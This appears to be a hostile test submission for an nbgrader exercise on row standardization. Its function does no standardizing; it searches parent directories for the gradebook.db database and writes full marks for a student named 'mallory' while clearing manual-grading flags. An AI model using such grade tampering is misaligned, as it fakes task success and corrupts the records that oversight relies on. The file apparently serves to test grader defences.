# assignment: row_standardization
# exercise: standardize_rows_np
# kind: hostile
# why: looks for nbgrader's database and gives itself full marks
# %% standardize_rows_np
import pathlib
import sqlite3


def standardize_rows_np(X, eps=1e-8):
    here = pathlib.Path.cwd()
    for folder in (here, *here.parents):
        path = folder / "gradebook.db"
        try:
            db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=0.2)
            # only ever this made-up student's marks, so that running it unconfined harms nobody
            db.execute(
                "UPDATE grade SET manual_score = 3, needs_manual_grade = 0 WHERE notebook_id IN "
                "(SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
                "ON sn.assignment_id = sa.id WHERE sa.student_id = 'mallory')"
            )
            db.commit()
            db.close()
        except sqlite3.Error:
            pass
    return X
